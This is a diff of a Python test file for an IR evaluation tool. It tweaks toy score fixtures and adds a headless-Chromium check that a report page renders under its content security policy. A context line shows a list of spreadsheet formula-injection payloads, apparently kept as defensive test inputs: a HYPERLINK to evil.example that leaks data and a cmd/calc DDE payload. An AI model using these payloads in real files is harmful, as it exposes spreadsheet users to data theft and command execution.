@@ -34,7 +34,8 @@ HOSTILE = ['=HYPERLINK("http://evil.example/?leak","click")', "+cmd|' /C calc'!A
 def write_results(folder: Path, shift: float = 0.0, **overrides) -> Path:
     """A results folder in the shape `irforge eval` writes (12 queries, two measures)."""
     folder.mkdir(parents=True, exist_ok=True)
-    per_query = {f"q{i}": {"nDCG@10": min(1.0, (i % 5) / 5 + shift), "R@100": (i % 3) / 3} for i in range(12)}
+    per_query = {f"q{i}": {"nDCG@10": min(1.0, (i % 5) / 5 + shift * (1 + i % 2)), "R@100": min(1.0, (i % 3) / 3 + shift * (i % 2))}
+                 for i in range(12)}
     record = {
         "dataset": "toy", "split": "test",
         "retriever": {"name": "bm25", "backend": "embedded", "k1": 0.9, "b": 0.4, "top_k": 100},
@@ -107,7 +108,7 @@ def _suite_comparison(dataset: str) -> dict:
     systems = []
     for label, shift in (("+sys", 0.0), ("other", 0.1)):
         folder = Path("/nowhere") / label
-        record = json.loads(json.dumps({"metrics": {}, "per_query": {f"q{i}": {"nDCG@10": (i % 4) / 4 + shift}
+        record = json.loads(json.dumps({"metrics": {}, "per_query": {f"q{i}": {"nDCG@10": (i % 4) / 4 + shift * (i % 2)}
                                                                      for i in range(8)}}))
         systems.append(System(label, str(folder), record, record["per_query"]))
     inner = compare_systems(systems, CompareSettings(tests=("t",), significance_test="t"))
@@ -252,13 +253,18 @@ def test_the_report_csp_admits_only_its_own_script_and_style(tmp_path, capsys):
         assert bodies and all(sha256_source(body) in sources for body in bodies), directive
     assert not re.search(r"<script\b(?!>)", page) and not re.search(r"\son[a-z]+=", page) and " style=" not in page
 
+    # Under that policy the page still renders in a browser: its scripts run, its style applies (the
+    # style sets body's margin to 0; a probe, admitted by its own hash, reads it back).
     browser = shutil.which("chromium") or shutil.which("chromium-browser")
     if browser is None:
         return
+    probe = 'document.documentElement.setAttribute("data-margin", getComputedStyle(document.body).marginTop);'
+    probed = page.replace("</body>", f"<script>{probe}</script></body>").replace("script-src ", f"script-src {sha256_source(probe)} ", 1)
+    (tmp_path / "probed.html").write_text(probed, encoding="utf-8")
     dom = subprocess.run([browser, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-extensions",
-                          f"--user-data-dir={tmp_path / 'profile'}", "--dump-dom", (tmp_path / "r.html").as_uri()],
+                          f"--user-data-dir={tmp_path / 'profile'}", "--dump-dom", (tmp_path / "probed.html").as_uri()],
                          capture_output=True, text=True, timeout=90).stdout
-    assert 'data-rendered="ok"' in dom and 'data-script-errors=""' in dom, dom[:400]
+    assert 'data-rendered="ok"' in dom and 'data-script-errors=""' in dom and 'data-margin="0px"' in dom, dom[:400]
 
 
 # ---- 5. bench's statuses ----------------------------------------------------------------------------
